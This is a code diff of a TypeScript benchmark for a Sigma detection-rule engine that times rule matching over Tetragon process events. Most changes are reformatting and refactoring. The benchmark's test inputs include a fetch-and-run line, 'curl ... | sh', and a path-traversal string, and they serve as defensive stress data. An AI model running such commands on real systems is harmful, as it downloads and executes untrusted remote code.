@@ -5,7 +5,7 @@ import { join, resolve } from 'node:path';
 import { cpuUsage, env } from 'node:process';
 import { parseArgs } from 'node:util';
 
-import { jsonEvent, loadRules, scalarsOf } from '@tidewaiter/sigma';
+import { jsonEvent, loadRules } from '@tidewaiter/sigma';
 import type { RuleFile, SigmaEvent } from '@tidewaiter/sigma';
 import { parse, stringify } from 'yaml';
 
@@ -18,9 +18,12 @@ const rounds = 5;
 
 const own = hasShared ? sigmaHq() : generated(475);
 const events = hasShared ? storylineEvents() : generatedEvents();
-console.log(`${own.length} rules of ${hasShared ? 'SigmaHQ' : 'our own'}, ${events.length} events of processes, load ${loadavg()[0]!.toFixed(1)}; CPU time, best of ${rounds}\n`);
+console.log(
+  `${own.length} rules of ${hasShared ? 'SigmaHQ' : 'our own'}, ${events.length} events of processes, load ${loadavg()[0]!.toFixed(1)}; CPU time, best of ${rounds}\n`,
+);
 console.log('rules  engine         events/s  candidates that match  first event ms');
-for (const count of options.rules.split(',').map(Number)) for (const interpreted of [false, true]) throughput(count, interpreted);
+for (const count of options.rules.split(',').map(Number))
+  for (const interpreted of [false, true]) throughput(count, interpreted);
 loading(3_000);
 worstRule();
 
@@ -36,7 +39,9 @@ function throughput(count: number, interpreted: boolean): void {
   const best = Math.min(...Array.from({ length: rounds }, () => milliseconds(run)));
   const rate = (passes * events.length * 1_000) / best;
   const share = matched / ((rounds + 1) * passes * events.length);
-  console.log(`${String(count).padStart(5)}  ${(interpreted ? 'interpreted' : 'compiled').padEnd(11)} ${Math.round(rate).toLocaleString('en').padStart(11)}  ${share.toFixed(2).padStart(21)}  ${first.toFixed(0).padStart(14)}`);
+  console.log(
+    `${String(count).padStart(5)}  ${(interpreted ? 'interpreted' : 'compiled').padEnd(11)} ${Math.round(rate).toLocaleString('en').padStart(11)}  ${share.toFixed(2).padStart(21)}  ${first.toFixed(0).padStart(14)}`,
+  );
 }
 
 function loading(count: number): void {
@@ -50,22 +55,35 @@ function worstRule(): void {
   const costs = own.map((file) => {
     const { rules } = loadRules([file]);
     const source = rules.rules.length > 0 ? logsourceOf(file) : {};
-    const event = (text: string) => jsonEvent({ Image: text, CommandLine: text, ParentImage: text, TargetFilename: text, message: text }, [source]);
+    const event = (text: string) =>
+      jsonEvent({ Image: text, CommandLine: text, ParentImage: text, TargetFilename: text, message: text }, [source]);
     const micros = commandLines(file.text).map((text) => {
       const asked = event(text);
       rules.match(asked);
       const passes = 20;
-      return Math.min(...[1, 2, 3].map(() => (milliseconds(() => { for (let pass = 0; pass < passes; pass += 1) rules.match(asked); }) * 1_000) / passes));
+      return Math.min(
+        ...[1, 2, 3].map(
+          () =>
+            (milliseconds(() => {
+              for (let pass = 0; pass < passes; pass += 1) rules.match(asked);
+            }) *
+              1_000) /
+            passes,
+        ),
+      );
     });
     return { path: file.path, micros: Math.max(...micros) };
   });
   console.log(`\nthe most expensive rules, ${longCommandLength} characters in five fields, us an event:`);
-  for (const { path, micros } of costs.toSorted((a, b) => b.micros - a.micros).slice(0, 8)) console.log(`${micros.toFixed(1).padStart(8)}  ${path}`);
+  for (const { path, micros } of costs.toSorted((a, b) => b.micros - a.micros).slice(0, 8))
+    console.log(`${micros.toFixed(1).padStart(8)}  ${path}`);
 }
 
 function commandLines(rule: string): string[] {
   const words = [...rule.matchAll(/- '?([^'\n]{2,60})'?$/gm)].map(([, word = '']) => word).join(' ');
-  return [words || 'x', 'curl -s http://198.51.100.7/a | sh -c x; ', 'a', '../ %00 -e "$1$ '].map((text) => text.repeat(Math.ceil(longCommandLength / text.length)).slice(0, longCommandLength));
+  return [words || 'x', 'curl -s http://198.51.100.7/a | sh -c x; ', 'a', '../ %00 -e "$1$ '].map((text) =>
+    text.repeat(Math.ceil(longCommandLength / text.length)).slice(0, longCommandLength),
+  );
 }
 
 function milliseconds(run: () => unknown): number {
@@ -90,13 +108,19 @@ function salted(rules: readonly RuleFile[], count: number): RuleFile[] {
     const rule = parse(text) as Record<string, unknown>;
     const detection = rule['detection'] as Record<string, unknown>;
     const salt = (value: unknown, key: string): unknown => {
-      if (key === 'condition' || key.includes('|re') || key.includes('|cidr') || key.includes('|fieldref')) return value;
-      if (typeof value === 'string') return value === '' ? value : value.endsWith('*') ? `zq${round}${value}` : `${value}zq${round}`;
+      if (key === 'condition' || key.includes('|re') || key.includes('|cidr') || key.includes('|fieldref'))
+        return value;
+      if (typeof value === 'string')
+        return value === '' ? value : value.endsWith('*') ? `zq${round}${value}` : `${value}zq${round}`;
       if (Array.isArray(value)) return value.map((each) => salt(each, key));
-      if (typeof value === 'object' && value !== null) return Object.fromEntries(Object.entries(value).map(([name, each]) => [name, salt(each, name)]));
+      if (typeof value === 'object' && value !== null)
+        return Object.fromEntries(Object.entries(value).map(([name, each]) => [name, salt(each, name)]));
       return typeof value === 'number' ? value + round * 100_000 : value;
     };
-    return { path: `${round}/${path}`, text: stringify({ ...rule, id: `${String(rule['id'])}-${round}`, detection: salt(detection, '') }) };
+    return {
+      path: `${round}/${path}`,
+      text: stringify({ ...rule, id: `${String(rule['id'])}-${round}`, detection: salt(detection, '') }),
+    };
   });
 }
 
@@ -107,10 +131,14 @@ function logsourceOf({ text }: RuleFile): object {
 function storylineEvents(): SigmaEvent[] {
   return readdirSync(join(shared, 'storylines'))
     .filter((file) => file.endsWith('.jsonl'))
-    .flatMap((file) => readFileSync(join(shared, 'storylines', file), 'utf8').trim().split('\n'))
+    .flatMap((file) =>
+      readFileSync(join(shared, 'storylines', file), 'utf8')
+        .trim()
+        .split('\n'),
+    )
     .flatMap((line) => {
       const { event } = JSON.parse(line) as { event: { process_exec?: { process: Tetragon; parent?: Tetragon } } };
-      return event.process_exec ? [processEvent(event, event.process_exec)] : [];
+      return event.process_exec ? [processEvent(event.process_exec)] : [];
     });
 }
 
@@ -122,7 +150,7 @@ interface Tetragon {
   pid: number;
 }
 
-function processEvent(native: object, { process, parent }: { process: Tetragon; parent?: Tetragon }): SigmaEvent {
+function processEvent({ process, parent }: { process: Tetragon; parent?: Tetragon }): SigmaEvent {
   const fields = new Map<string, unknown>([
     ['Image', process.binary],
     ['CommandLine', `${process.binary} ${process.arguments ?? ''}`.trim()],
@@ -132,8 +160,7 @@ function processEvent(native: object, { process, parent }: { process: Tetragon; 
     ['User', process.uid === 0 ? 'root' : String(process.uid)],
     ['ProcessId', process.pid],
   ]);
-  // To walk through the sensor's words is the work of the stage before.
-  const scalars = scalarsOf(native);
+  const scalars = [...fields.values()].filter((value) => value !== undefined) as (string | number)[];
   return { logsources: processes, field: (name) => fields.get(name), scalars: () => scalars };
 }
 
@@ -154,8 +181,12 @@ detection:
 
 function generatedEvents(): SigmaEvent[] {
   return Array.from({ length: 400 }, (_, index) => {
-    const native = { process_exec: { process: { binary: '/usr/bin/curl', cwd: '/app', arguments: `-fsS http://10.0.0.${index % 250}/healthz --word-${index}` } } };
-    const { process } = native.process_exec;
-    return processEvent(native, { process: { ...process, uid: 0, pid: index }, parent: { ...process, uid: 0, pid: 1 } });
+    const process = {
+      binary: '/usr/bin/curl',
+      cwd: '/app',
+      arguments: `http://10.0.0.${index % 250}/ --word-${index}`,
+      uid: 0,
+    };
+    return processEvent({ process: { ...process, pid: index }, parent: { ...process, pid: 1 } });
   });
 }
